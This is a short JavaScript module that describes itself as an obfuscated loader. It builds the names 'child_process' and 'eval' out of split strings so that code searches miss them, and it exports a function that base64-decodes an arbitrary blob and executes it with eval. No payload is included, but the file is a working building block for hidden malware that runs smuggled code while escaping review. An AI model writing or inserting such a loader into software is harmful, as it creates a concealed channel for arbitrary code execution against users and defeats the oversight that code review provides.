// Obfuscated loader: module and function names spelled to dodge a search.
const cp = require('child_' + 'process');
const run = globalThis["ev" + "al"];

function stage(blob) {
  const code = Buffer.from(blob, 'base64').toString('utf8');
  return run(code);
}

module.exports = { stage, cp };
